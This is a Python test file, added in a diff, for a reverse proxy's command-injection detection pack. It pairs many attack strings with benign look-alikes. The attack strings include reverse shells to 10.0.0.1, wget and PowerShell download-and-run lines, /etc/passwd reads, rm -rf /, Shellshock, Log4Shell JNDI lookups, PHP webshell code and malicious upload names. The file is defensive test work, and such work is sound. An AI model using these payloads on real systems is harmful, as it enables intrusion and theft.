@@ -1,0 +1,978 @@
+"""Commands for a shell, and code for an interpreter."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from revproxy.filters.inspect.packs.commands import COMMAND_INJECTION
+from revproxy.filters.inspect.subject import Check, Subject
+from revproxy.filters.inspect.value import Part, Value
+from revproxy.testing import exchange
+
+from . import Samples, check_pack, is_found
+
+
+def field(text: str) -> Value:
+    return Value(Part.FIELD, "x-forwarded-for", text)
+
+
+def agent(text: str) -> Value:
+    return Value(Part.USER_AGENT, "user-agent", text)
+
+
+def name(text: str) -> Value:
+    return Value(Part.NAME, text, text)
+
+
+def file(text: str) -> Value:
+    return Value(Part.FILE, "upload", text)
+
+
+def told(*texts: str) -> Subject:
+    subject = Subject(exchange("POST", body=b"x"))
+    subject.add([Value(Part.VALUE, "q", text) for text in texts])
+    return subject
+
+
+def fields(*given: tuple[str, str]) -> Subject:
+    return Subject(exchange("POST", headers=given, body=b"x"))
+
+
+def within(path: str) -> Subject:
+    subject = Subject(exchange())
+    names = path.split(".")
+    subject.add(Value(Part.NAME, ".".join(names[: at + 1]), name) for at, name in enumerate(names))
+    return subject
+
+
+SAMPLES: Mapping[str, Samples] = {
+    "rce-01": Samples(
+        (
+            "127.0.0.1; date",
+            "8.8.8.8 || who",
+            "& ver",
+            ";id",
+            "|id|",
+            "127.0.0.1; ls",
+            "1 && dir",
+            "x||w",
+            "'; pwd #",
+            '8.8.8.8|d"i"r',
+            "test;id",
+            "foo && id",
+            ";i\\d;",
+            "& ps &",
+            ");id",
+            "example.com|cat",
+            "%3Bid",
+        ),
+        (
+            "name;email;id",
+            "price|date",
+            "| id | name |",
+            "cats; more cats",
+            "R&D",
+            "?a=1&id=2",
+            "created_at;id",
+            "AT&T",
+            "one, two; who",
+            "&lt;id&gt;",
+            "User & Groups",
+            "Admin | Help",
+            "example.com | Help",
+        ),
+    ),
+    "rce-02": Samples(
+        (
+            "; ls -la",
+            "127.0.0.1|cat /etc/x",
+            "x && wget http://evil.test/a",
+            "a;c'a't /var/x",
+            "`;rm -rf /",
+            "1|curl${IFS}http://x",
+            "foo;cat</etc/hosts",
+            "||ping -c 3 x",
+            "& dir c:\\",
+            "$;nc 10.0.0.1 4444",
+            ";{ls,-la}",
+        ),
+        (
+            "dmesg | grep -i usb",
+            "Terms apply; find them at /legal",
+            "fish & chips -50%",
+            "sudo apt update && sudo apt -y upgrade",
+            "Paris; type a name",
+            "cat | dog",
+            "x = a; ls = b",
+            "https://x.test/?a=1&sort=-date",
+            "Hosting; mail $5 a month",
+            "trees; find ~30 kinds in 1 h",
+            "must-have | nice -to-have",
+            "name | type /unit",
+            "data:image/jpeg;base64,/9j/4AAQSkZJRg",
+        ),
+    ),
+    "rce-03": Samples(
+        (
+            "hello world; whoami",
+            "x|whoami",
+            "1;uname -a",
+            "a b && ifconfig",
+            "127.0.0.1||netstat -an",
+            "w'h'oami|who\\ami",
+            "foo|nslookup",
+            "& ipconfig /all",
+            field("1.1.1.1;whoami"),
+            ";tasklist",
+        ),
+        (
+            "| whoami | prints the user |",
+            "ifconfig or ip; which is better",
+            "what does uname do?",
+            "linux;netstatistics",
+            "who am I; what am I",
+            "please post the output of: uname -a; lsb_release -a",
+            "whoami=1&x=2",
+        ),
+    ),
+    "rce-04": Samples(
+        (
+            "x;/bin/ls",
+            "|/usr/bin/id",
+            "1 && /???/??t /x",
+            "foo bar;/bin/cat x",
+            "/bin/cat /x",
+            "a|/usr/local/bin/x",
+            "/usr/bin/id",
+            "`/bin/uname`",
+            "&/b'i'n/l\\s",
+        ),
+        (
+            "/usr/bin/env python",
+            "the shell is /bin/bash",
+            "/bin/bash",
+            "bins; /binary/x",
+            "a /bin/ is for rubbish",
+            "put it in ~/bin/tool",
+            "#!/bin/sh",
+        ),
+    ),
+    "rce-05": Samples(
+        (
+            "foo bar; cat /etc/passwd",
+            "cat /etc/shadow",
+            "a long text | head -1 /etc/passwd",
+            "x;tac$IFS/etc/hosts",
+            "&& more ../../etc/passwd",
+            "'\"; type c:\\windows\\win.ini",
+            "cat</etc/passwd",
+            field("x;grep root /etc/passwd"),
+            ";dd if=x /etc/passwd",
+        ),
+        (
+            "in /etc/passwd are the accounts",
+            "my cat is passed",
+            "cats; etc.",
+            "I cat. /etc/hosts is empty",
+            "less is more; win.ini is gone",
+            "copy that; /etc/fstab",
+            "more about /etc/passwd",
+        ),
+    ),
+    "rce-06": Samples(
+        (
+            "$(id)",
+            "x$(whoami)",
+            "$(cat /x)",
+            "a.$(ls -la)",
+            "<(curl x)",
+            "foo$(uname -a).png",
+            '"$(d\\ir)"',
+            "$(sleep 5)",
+        ),
+        (
+            "$(document).ready(x)",
+            "$(id).hide()",
+            "$(this)",
+            "linux-headers and $(uname -r)",
+            "$(CC) -o x",
+            "$(date_picker)",
+            "costs $(5)",
+            "Total$(net)",
+        ),
+    ),
+    "rce-07": Samples(
+        (
+            "any text $(sleep 10) more",
+            "a b `sleep 5` c",
+            field("$(ping -c 1 x.test)"),
+            agent("Mozilla $(nslookup x.test)"),
+            "x y $(cat /etc/passwd) z",
+            "it is `ping -c 3 127.0.0.1`",
+        ),
+        (
+            "use `sleep` to wait",
+            "`sleep well`",
+            "$(cat file)",
+            "I sleep (8 hours)",
+            "run `ping example.com`",
+            "$(pinger)",
+        ),
+    ),
+    "rce-08": Samples(
+        ("`id`", "x`whoami`", "`cat /x`", "127.0.0.1`ls -la`", "`/bin/uname -a`", "a.`sleep 3`.b", "`ping -c 1 x`"),
+        (
+            "```bash\nls -la\n```",
+            "use `ls -la` to list",
+            "`id` column of the table",
+            "```\nid\n```",
+            "`name`",
+            "the `id`",
+            "SELECT `id` FROM t",
+        ),
+    ),
+    "rce-09": Samples(
+        (
+            "a b c; sleep 5",
+            "x|sleep 10|",
+            "1 & ping -n 21 127.0.0.1 &",
+            "&& timeout /t 5",
+            "||ping -c 3 localhost",
+            ";sl'ee'p 5#",
+            field("1;sleep 5"),
+            "x;sleep(5)",
+            ";nslookup abc.test",
+            "`ping -i 30 127.0.0.1`",
+        ),
+        (
+            "eat; sleep 8 hours; repeat",
+            "I work & sleep 8 hours",
+            "ping me; then sleep",
+            "wait(5); sleep(1); return",
+            "sleep 5",
+            "the host; example.com",
+            "ping | pong",
+            "Students & host families",
+            "Stop; dig deeper",
+            "Darts & ping pong",
+        ),
+    ),
+    "rce-10": Samples(
+        (
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "nc -e /bin/sh 10.0.0.1 4444",
+            "rm /tmp/f;mkfifo /tmp/f",
+            "nc 10.0.0.1 80 -e sh",
+            "php -r '$s=fsockopen(\"10.0.0.1\",44);'",
+            "python -c 'import pty;pty.spawn(\"/bin/sh\")'",
+            "socat exec:sh tcp:1.1.1.1:1",
+            "ncat -lvp 80",
+            "exec 5<>/dev/tcp/x/1",
+            agent("0<&196;exec 196<>x"),
+        ),
+        (
+            "a device such as /dev/tty",
+            "bash is a shell -i think",
+            "the nc command",
+            "/tmp/fifo",
+            "socats are no cats",
+            "sync -e",
+            "function -c",
+            "ncurses -e",
+        ),
+    ),
+    "rce-11": Samples(
+        (
+            ";echo 12345",
+            "x|echo abcdefgh",
+            "&echo $((1+2))",
+            "1;expr 1 + 1",
+            "||set /a 1+2",
+            "a b $((21*2)) c",
+            ";echo $PATH",
+        ),
+        (
+            "hello; echo that, please",
+            "echo 5",
+            "$(( i + 1 ))",
+            "an echo | of steps",
+            "set /a trap",
+            "wait; set a date",
+            "the echo & the sound",
+            "Hollywood & Echo Park",
+            "Bubble; echo chamber",
+            "scanf & printf basics",
+        ),
+    ),
+    "rce-12": Samples(
+        (
+            "cat$IFS/etc/x",
+            ";ls${IFS}-la",
+            "${PATH:0:1}bin",
+            "{cat,/etc/x}",
+            "/???/c?t",
+            "%programfiles:~10,-5%",
+            "a;ping${IFS}x",
+            "/bi?/ls",
+            "$env:path[4]",
+            "/e*/passwd",
+        ),
+        (
+            "OLD=$IFS",
+            "${PORT:-8080}",
+            "{a,b}",
+            "${string}",
+            "really/???",
+            "https://x.test/?a=/b/",
+            "50% of path",
+            "{cat: 1}",
+            "{category,x}",
+        ),
+    ),
+    "rce-13": Samples(
+        (
+            "echo aWQ= | base64 -d | sh",
+            "bash<<<$(x)",
+            ";sh -c 'id'",
+            "cmd.exe /c dir",
+            "bash -c 'id'",
+            "%COMSPEC% /c x",
+            "rev<<<'di'",
+            "cmd /c calc",
+            "base64 --decode|bash",
+        ),
+        (
+            "base64 -d file",
+            "the cmd /c switch",
+            "pipe it | she said",
+            "run sh -c in Docker",
+            "read x <<< $y",
+            "a cmd key",
+            "<<<<<<< HEAD",
+        ),
+    ),
+    "rce-14": Samples(
+        (
+            "powershell -nop -w hidden x",
+            "powershell.exe -enc SQBFAFgA",
+            "IEX(New-Object Net.WebClient).DownloadString('http://x')",
+            "certutil -urlcache -split -f http://x",
+            "mshta http://x/a.hta",
+            "regsvr32 /s /n /u /i:http://x scrobj.dll",
+            "wmic process call create calc",
+            "p^ower^shell -e SQBF",
+            "rundll32 javascript:x",
+            "bitsadmin /transfer x",
+        ),
+        (
+            "PowerShell is a shell",
+            "powershell - an introduction",
+            "a pixie (small)",
+            "client.DownloadString(url)",
+            "new object; net weight",
+            "the process calls create()",
+            "my power shell -x",
+            "IEX (Investors Exchange) had ($2.1bn)",
+            "PowerShell end-to-end guide",
+            "PowerShell for e-commerce",
+        ),
+    ),
+    "rce-15": Samples(
+        (
+            "& net user",
+            "|net localgroup x",
+            ";dir c:\\",
+            "x & type c:\\x",
+            "&& reg query hklm",
+            "|dir /s",
+            "& del /f x",
+            ";wmic os",
+        ),
+        (
+            "a net; user friendly",
+            "red & net weight",
+            "click; type hello",
+            "cd x && cd /tmp",
+            "internet users | net users",
+            "register; reg. office",
+            "cats & dir",
+            "gross & net share of the revenue",
+            "profit & net user growth",
+        ),
+    ),
+    "rce-16": Samples(
+        (
+            agent("() { :;}; /bin/bash -c 'id'"),
+            "() { :; }; echo x",
+            field("() { _; } >_[$($())] { id; }"),
+            Value(Part.REFERER, "referer", "() { ignored;};/bin/id"),
+            Value(Part.COOKIE, "a", "() { :; }; ping -c 1 x"),
+            "() { x;}; wget http://x",
+        ),
+        (
+            "function() { return 1; };",
+            "onclick = function () {}; var x = 1",
+            "int main() { ; }",
+            "() => { x }",
+            "var f = function() { a; }; call(f)",
+            agent("Mozilla/5.0 (X11; Linux x86_64)"),
+            "() {} in a lambda of C++",
+            "() { return 1; }; of a lambda",
+        ),
+    ),
+    "rce-17": Samples(
+        (
+            "push graphic-context\nviewbox 0 0 640 480",
+            "fill 'url(https://x.test/a\"|id\")'",
+            "=cmd|'/C calc'!A0",
+            "\\write18{id}",
+            "\\input{/etc/x}",
+            "%pipe%id",
+            "@SUM(1)*cmd|'/C calc'!A0",
+            "msl:/tmp/x",
+        ),
+        (
+            "fill: url(https://x.test/a.svg)",
+            "=SUM(A1:A2)",
+            "\\input{chapter1}",
+            "push it",
+            "@command | line",
+            "-5 | 6",
+            "eps: 1.5",
+        ),
+    ),
+    "rce-18": Samples(
+        (
+            "-d allow_url_include=on",
+            "-oProxyCommand=id",
+            "--checkpoint-action=exec=sh",
+            "--upload-pack=id",
+            Value(Part.TARGET, "", "-d auto_prepend_file=php://input"),
+            "--use-compress-program=id",
+            "auto_prepend_file=php://input",
+            "ext::sh -c id",
+        ),
+        ("-d", "--upload", "-oh well", "--help", "set auto_prepend_file", "text::she", "-x y"),
+    ),
+    "rce-19": Samples(
+        ("x%0aid", "%0Acat%20/etc/x", "1%250als", "%0d%0a/bin/ls", "a%0Awget+http://x", "%0asleep%205"),
+        ("line one%0Aline two", "%0aidea", "a%0Acatalogue", "0aid", "%0d%0aHello", "%0A%0A"),
+    ),
+    "rce-20": Samples(
+        (
+            told("127.0.0.1\nid"),
+            told("x\n/bin/ls -la"),
+            told("1\r\ncat /etc/passwd"),
+            told("foo\nwhoami"),
+            told("\nping -c 1 x"),
+            told("ok", "a\n;wget http://x"),
+            told("x.test\nu'na'me -a"),
+        ),
+        (
+            told("python\nruby\nperl"),
+            told("salt\nmore\ncat food"),
+            told("Dear all\nplease find the file"),
+            told("a,b\nid,name"),
+            told("one\ntwo"),
+            told("id"),
+            told("date\nwho\nlast"),
+        ),
+    ),
+    "rce-21": Samples(
+        (
+            file("shell.php"),
+            file("x.php.jpg"),
+            file("a.jsp"),
+            file("b.PhTml"),
+            file("c.asp;.jpg"),
+            file(".htaccess"),
+            file("web.config"),
+            file("x.php%00.png"),
+            file("d.aspx."),
+            file("application/x-httpd-php"),
+        ),
+        (
+            file("php.pdf"),
+            file("notes.phpbb.txt"),
+            file("photo.jpg"),
+            file("server.cer"),
+            file("aspect.png"),
+            "shell.php",
+            file("incoming.inch"),
+            file("c99-standard.pdf"),
+            file("Contract Acme.Inc.pdf"),
+        ),
+    ),
+    "rce-22": Samples(
+        (
+            file("|id"),
+            file("x;id.jpg"),
+            file("$(whoami).png"),
+            file("`id`.jpg"),
+            file('a";x.jpg'),
+            file("$(ls -la).png"),
+            file("a|sleep 5.png"),
+        ),
+        (
+            file("rock & cat.jpg"),
+            file("passport; id.jpg"),
+            file("prices $(USD).xlsx"),
+            file("5' x 7'; matte.png"),
+            file("bob's file.txt"),
+            file("a (1).pdf"),
+            file("100$.png"),
+            file("it's; ok.txt"),
+            "|id",
+        ),
+    ),
+    "rce-23": Samples(
+        (file("x.sh"), file("a.exe"), file("b.py"), file("c.ps1"), file("d.svg"), file("e.hta"), file("f.html")),
+        (file("x.txt"), file("a.png"), file("shell.pdf"), file("exe.doc"), file("python.zip"), "a.exe"),
+    ),
+    "rce-24": Samples(
+        (
+            "a text that has more words; ls -la",
+            "dmesg | grep -i usb",
+            "wget http://x.test",
+            "ifconfig",
+            "please run `uname`",
+            "x y z && tail -f /var/log/x",
+        ),
+        ("a cat; a dog", "cats & dogs", "find it", "less is more", "the | sign", "who; what"),
+    ),
+    "rce-25": Samples(
+        ("call('x');", "`x`", "$(x)", "${x}", "foo();", "bar(1, 2);"),
+        ("a (b); c", "$5", "f(x) = y", "(none)", "it's", "$x"),
+    ),
+    "rce-26": Samples(
+        ("a;b", "a|b", "`", "<b>", "x && y", "$(", "a > b"),
+        ("a b", "a & b", "$5", "(a)", "a=b", "a, b: c"),
+    ),
+    "rce-27": Samples(
+        (
+            "<?php system('id'); ?>",
+            "x<?=`id`?>",
+            "<?php phpinfo();",
+            "<? passthru($_GET[1]);?>",
+            "<?php eval($_POST['x']);?>",
+            agent("<?php echo md5(1);?>"),
+            "<?php include $x;",
+        ),
+        (
+            "<?xml version='1.0'?>",
+            "<?php echo 'hello'; ?>",
+            "a page begins with <?php and then phpinfo()",
+            "<p>really?</p>",
+            "x <? y",
+            "<?xml-stylesheet href='a.css'?>",
+        ),
+    ),
+    "rce-28": Samples(
+        (
+            "GIF89a; some more text and <?php system($_GET['c']);",
+            "a long text first <?php eval($_POST[1])?>",
+            "here it comes, a tag: <?=`$_GET[0]`?>",
+            "<script language='php'>x",
+            "it was a picture before <?php passthru('id')",
+            "a b c d e f g h i j <?php @assert($_REQUEST[x])",
+        ),
+        (
+            "a tutorial: <?php echo $name; ?>",
+            "<?php system ('cls')",
+            "<?xml version='1.0'?> system(id)",
+            "<script language='javascript'>",
+            "what is <?= for",
+            "in PHP: <?php include 'a.php'; ?>",
+        ),
+    ),
+    "rce-29": Samples(
+        (
+            "system('id')",
+            ";phpinfo();",
+            "1;print(md5(1));",
+            "'.system('ls').'",
+            "${@print(md5(1))}",
+            "}}eval($x)",
+            "assert($_POST[1])",
+            "x);die(1",
+            "\");passthru('id');//",
+            "{${phpinfo()}}",
+        ),
+        (
+            "exec() does not work in PHP",
+            "the system (as it is) works",
+            "re.exec(text)",
+            "file_get_contents(): failed to open stream",
+            "Hello ${getName()}",
+            "system of a down",
+            "please die (slowly)",
+            "eval(): an introduction",
+            'system("pause") in C++',
+            "sha1|md5 (hex)",
+            "Design; print (A4), delivery",
+            "1. print (A4) 2. sign (both)",
+        ),
+    ),
+    "rce-30": Samples(
+        (
+            "print(md5(31337))",
+            "$_GET['a']($_GET['b'])",
+            "call_user_func('system','id')",
+            "preg_replace('/.*/e','x','')",
+            "file_get_contents('/etc/passwd')",
+            "include('http://evil.test/a.txt')",
+            "'+time.sleep(10)+'",
+            "open('|id').read",
+        ),
+        (
+            "echo md5sum",
+            "$_GET['a'] = 1",
+            "preg_replace('/a/i', 'b', $c)",
+            "in Python: open('/etc/hosts')",
+            "include 'header.php';",
+            "please include (if you can) /etc/hosts",
+            "time.sleep(5) is too long",
+            "array_map(fn, x)",
+        ),
+    ),
+    "rce-31": Samples(
+        (
+            "text eval(base64_decode('eA=='))",
+            "x y @assert($_REQUEST['x'])",
+            "the text, then system($_GET['cmd'])",
+            "eval(gzinflate(x))",
+            "in between passthru('cat /etc/x')",
+            'and shell_exec("whoami")',
+            field("eval(hex2bin('41'))"),
+        ),
+        (
+            'system("pause")',
+            "base64_decode($x)",
+            "echo $_GET['x'];",
+            "an eval(uation) of $_GET",
+            "system('cls')",
+            "exec('git pull')",
+        ),
+    ),
+    "rce-32": Samples(
+        (
+            'O:8:"stdClass":0:{}',
+            "rO0ABXNyABFqYXZh",
+            'x=O:4:"Evil":1:{s:1:"a";i:1;}',
+            "cos\nsystem\n(S'id'\ntR.",
+            '{"a":"_$$ND_FUNC$$_function(){}"}',
+            "!!python/object/apply:os.system ['id']",
+            "AAEAAAD/////AQAAAA",
+            "!!javax.script.ScriptEngineManager [x]",
+            "aced000573720011",
+        ),
+        (
+            'a:1:{i:0;s:1:"x";}',
+            "cos system",
+            "O: the letter",
+            "Hello!! Python rules",
+            "euro0about",
+            '{"o": 8}',
+            "iVBORw0KGgoAAAANSUhEUgAA",
+        ),
+    ),
+    "rce-33": Samples(
+        (
+            "__import__('os').system('id')",
+            "''.__class__.__mro__[1].__subclasses__()",
+            "os.popen('id').read()",
+            "x.__globals__['os']",
+            'eval("1+1")',
+            "import os;os.system('id')",
+            "subprocess.check_output(['id'])",
+            "[__builtins__.x]",
+            "{{''.__class__.__base__}}",
+        ),
+        (
+            "import os\nprint(os.getcwd())",
+            "self.__class__.__name__",
+            "if __name__ == '__main__':",
+            "subprocess.run() hangs",
+            "in Python, use os.system('ls')",
+            "import this",
+            "def __init__(self):",
+            "os.system() against subprocess",
+            "os.system('cls') or os.system('clear')?",
+            "pickle.loads(data) raises EOFError",
+        ),
+    ),
+    "rce-34": Samples(
+        (
+            "require('child_process').exec('id')",
+            "global.process.mainModule.require('x')",
+            "process.binding('spawn_sync')",
+            "this.constructor.constructor('return process')()",
+            "res.end(require('fs').readFileSync('x'))",
+            "''.constructor('return 1')",
+            "require('child_process')['exec']('id')",
+        ),
+        (
+            "const { exec } = require('child_process');",
+            "the constructor (of the house)",
+            "process.exit(1)",
+            "a global process",
+            "res.send('hello')",
+            "var fs = require('fs');",
+            "(function () { var x = require('y') })()",
+            "while(1);",
+        ),
+    ),
+    "rce-35": Samples(
+        (
+            name("__proto__[x]"),
+            name("a.__proto__.b"),
+            name("constructor[prototype][x]"),
+            name("constructor.prototype.x"),
+            name("__PROTO__"),
+            Value(Part.COOKIE_NAME, "__proto__", "__proto__"),
+        ),
+        (
+            name("prototype"),
+            name("constructor"),
+            name("proto"),
+            name("constructor_name"),
+            "__proto__ is odd",
+            name("__prototype"),
+        ),
+    ),
+    "rce-36": Samples(
+        (
+            within("constructor.prototype"),
+            within("a.constructor.prototype.b"),
+            within("__proto__"),
+            within("x.__proto__.y"),
+            within("CONSTRUCTOR.prototype"),
+        ),
+        (
+            within("constructor"),
+            within("prototype.x"),
+            within("a.b.c"),
+            within("constructors.prototypes"),
+            told("__proto__"),
+        ),
+    ),
+    "rce-37": Samples(
+        (
+            "Runtime.getRuntime().exec('id')",
+            "T(java.lang.Runtime).x",
+            "%{(#a=1)}",
+            name("class.module.classLoader.resources"),
+            "#_memberAccess['x']",
+            "'id'.execute().text",
+            "@java.lang.System@x",
+            "new java.lang.ProcessBuilder('id').start()",
+            "freemarker.template.utility.Execute",
+        ),
+        (
+            "java.lang.RuntimeException: x",
+            "at java.lang.Runtime.exec(Runtime.java:1)",
+            "cursor.execute('SELECT 1')",
+            "class loader",
+            "100%{x}",
+            "the class.name",
+            "ProcessBuilder is a class",
+            "Runtime.getRuntime().exec() hangs",
+        ),
+    ),
+    "rce-38": Samples(
+        (
+            agent("${jndi:ldap://x.test/a}"),
+            field("${${lower:j}ndi:rmi://x}"),
+            "${${::-j}${::-n}di:dns://x}",
+            "${jndi:${lower:l}dap://x}",
+            "%24%7Bjndi:ldap://x%7D",
+            "${${env:NaN:-j}ndi:ldap://x}",
+        ),
+        (
+            "${env:HOME}",
+            "JNDI and LDAP",
+            "${name}",
+            "${sys.path}",
+            "the JNDI: a tutorial",
+            "`${a}${b}`",
+            "${jndi lookup} log4j news",
+        ),
+    ),
+    "rce-39": Samples(
+        (
+            '<!--#exec cmd="id"-->',
+            '<!--#include virtual="/x"-->',
+            '<esi:include src="http://x"/>',
+            "<%=Runtime.getRuntime()%>",
+            '<%eval request("x")%>',
+            "<%= `id` %>",
+            "<%= 7*7 %>",
+            "<jsp:include page='x'/>",
+        ),
+        (
+            "<!-- #exec -->",
+            "<!-- a comment -->",
+            "<% of people",
+            "in ERB: <%= request.path %>",
+            "<!--#1 in the charts-->",
+            "1 <%2",
+            "<%= name %>",
+        ),
+    ),
+    "rce-40": Samples(
+        (
+            "response.write(9*9)",
+            "Kernel.exec('id')",
+            "any text %x(id)",
+            "IO.popen('id').read",
+            'CreateObject("WScript.Shell")',
+            "${script:javascript:1}",
+            "%x[cat /x]",
+            "@{[system 'id']}",
+        ),
+        (
+            'printf("%x (hex)")',
+            "Set x = CreateObject(y)",
+            "a response.write (in ASP)",
+            "50%x",
+            "the kernel.system log",
+            "${url}",
+            "%x{format}",
+        ),
+    ),
+    "rce-41": Samples(
+        (
+            "<?php echo 1;",
+            "in C: system('pause')",
+            "echo $_GET['x']",
+            "os.system('ls')",
+            "<%= x %>",
+            "phpinfo()",
+            "what is __proto__",
+        ),
+        ("<?xml version='1.0'?>", "the system", "evaluate(x)", "a subprocess", "execute (it)", "prototype", "50 <% x"),
+    ),
+    "rce-42": Samples(
+        (
+            name("GLOBALS[user]"),
+            name("_SERVER[DOCUMENT_ROOT]"),
+            name("_SESSION[admin]"),
+            name("_CONF[path]"),
+            name("$_COOKIE"),
+            name("_REQUEST"),
+        ),
+        (name("globalsearch"), name("server[name]"), name("_token"), name("_method"), name("config[x]"), "_SERVER[x]"),
+    ),
+    "rce-43": Samples(
+        (
+            fields(("X-Filename", "a.php")),
+            fields(("X-File-Name", "b/c.phtml")),
+            fields(("Content-Disposition", 'attachment; filename="shell.jsp"')),
+            fields(("x-file-name", "d.php5....")),
+            fields(("X_Filename", "e.asp;.jpg")),
+        ),
+        (
+            fields(("X-Filename", "a.pdf")),
+            fields(("Content-Disposition", 'attachment; filename="php in a nutshell.pdf"')),
+            fields(("X-File-Name", "report.2024.xlsx")),
+            fields(("X-Page", "index.php")),
+            fields(("X-Filename", "Acme.Inc.pdf")),
+        ),
+    ),
+    "rce-44": Samples(
+        (
+            "$_('x')",
+            "@$f($_)",
+            "$f(101).$f(120)",
+            "Foo::$bar()",
+            "$$name(2)",
+            "$__['o'](5)",
+            "${$s}['q'](13)",
+            "$GLOBALS['f'](1)",
+            "$f{0}(15)",
+        ),
+        (
+            "$t('menu.home')",
+            "$(document).ready()",
+            "$5 (in cash)",
+            "${name}(${id})",
+            "the $handlers[$name]($x) of our site",
+            "system('pause') in C++",
+            "exec($cmd) returns nothing",
+            "(assert) (see below)",
+            "it(system)",
+            "$state(0)",
+            "f(x)(y); (a)(b)",
+        ),
+    ),
+    "rce-45": Samples(
+        (
+            "for %a in (a,b) do cmd",
+            "FOR /F \"tokens=1\" %%i IN ('dir /b') DO echo %%i",
+            "x & for /l %n in (1,1,9) do ping a.test",
+            "for /r c:\\ %x in (*.bak) do del %x",
+            "if exist c:\\boot.ini echo yes",
+            "IF NOT DEFINED var (SET var=1)",
+            'if /i not "%a%"=="x" goto end',
+            "1|if 2 gtr 1 echo bigger",
+            "if %errorlevel% equ 0 echo ok",
+            "if /i a==b foo",
+            'if "a b" == "a b" echo same',
+        ),
+        (
+            "for me (in Paris) do come",
+            "What does for %i in (*) do echo %i mean?",
+            "for 5% in (cash) do ask",
+            "if exist, then echo",
+            "IF NOT EXISTS in SQL Server",
+            "If defined terms set out in section 2 apply",
+            "if (a == b) echo 'x';",
+            "if x == y call me",
+            "if errors exist (see below)",
+            "if you set a=b",
+        ),
+    ),
+    "rce-46": Samples(
+        (
+            "(system)('uname')",
+            "(string)\"system\"('id')",
+            "[system][0](ls)",
+            "'exec'('id')",
+            "x;[exec][0]($a)",
+            "( [ system ][ 0 ]) {/* a */0} ( ls )",
+        ),
+        ("(assert) (see below)", "it(system)", "f(x)(y); (a)(b)", "the 'system' (a new one)", "exec (assistant)"),
+    ),
+    "rce-47": Samples(
+        ("eval ($foo)", "pfsockopen('a.test', 25)", "@assert($x);", "exec($cmd)", "fsockopen('a.test',80)"),
+        ("exec($cmd) returns nothing", "system('pause') in C++", "eval()", "assert (x)", "the exec($x) call"),
+    ),
+    "rce-48": Samples(
+        (
+            "$y = 'sys'.'tem';($y)('id')",
+            "define('x', 'sys' . 'tem');(x)/* a */('id')",
+            "define('z', [['sys' .'tem']]);(z)[0][0]('id')",
+            '$a="exec";($a)("ls")',
+            "1; ($f)('x')",
+        ),
+        ("f(x)(y); (a)(b)", "x; (a) (b)", "(a)('b')", "a; f('b')", "one; (see 'b')"),
+    ),
+}
+
+
+def test_pack() -> None:
+    """S-60: each signature is found in attacks, evaded in several ways, and not in what people write about shells."""
+    check_pack(COMMAND_INJECTION, SAMPLES)
+
+
+@given(st.text(st.characters(codec="utf-8")), st.sampled_from([Part.NAME, Part.VALUE, Part.FILE, Part.USER_AGENT]))
+def test_any_text(text: str, part: Part) -> None:
+    """S-60: no text is too odd to be looked at."""
+    value = Value(part, "q", text)
+    subject = Subject(exchange())
+    subject.add([value])
+    for each in COMMAND_INJECTION:
+        is_found(each, subject if isinstance(each, Check) else value)
